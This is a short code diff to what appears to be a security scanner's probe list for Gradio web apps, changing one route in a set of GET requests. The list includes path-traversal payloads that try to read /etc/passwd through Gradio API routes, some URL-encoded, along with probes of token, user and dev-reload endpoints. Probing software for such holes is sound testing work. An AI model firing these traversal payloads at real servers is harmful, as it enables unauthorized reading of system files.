@@ -612,7 +612,7 @@ def on_gradio(t: Target, config: dict[str, Any]) -> Iterator[Attack]:
         "/gradio_api/monitoring", "/monitoring", "/gradio_api/monitoring/summary", "/gradio_api/dev/reload", "/gradio_api/process_recording", "/gradio_api/runs",
         "/gradio_api/vibe-editor", "/gradio_api/vibe-code", "/gradio_api/mcp/sse", "/gradio_api/token", "/gradio_api/user", "/gradio_api/app_id/../monitoring",
         "/gradio_api/queue/status", "/gradio_api/startup-events/../file=/etc/passwd", "/gradio_api/call/../file=/etc/passwd", "/gradio_api/call/%2e%2e/upload",
-        "/gradio_api/login/huggingface", "/gradio_api/history", "/gradio_api/bucket", "/openapi.json", "/docs", "/gradio_api/docs", "/gradio_api/openapi.json",
+        "/gradio_api/login/huggingface", "/gradio_api/history", "/gradio_api/bucket", "/openapi.json", "/docs/openapi.json", "/gradio_api/docs", "/gradio_api/openapi.json",
         "/gradio_api/info/../file=/etc/passwd", "/gradio_api/heartbeat/../file=/etc/passwd", "/gradio_api/call/x/../../file=/etc/passwd",
     ):  # fmt: skip
         yield Attack(f"route {path}", "GET", path)
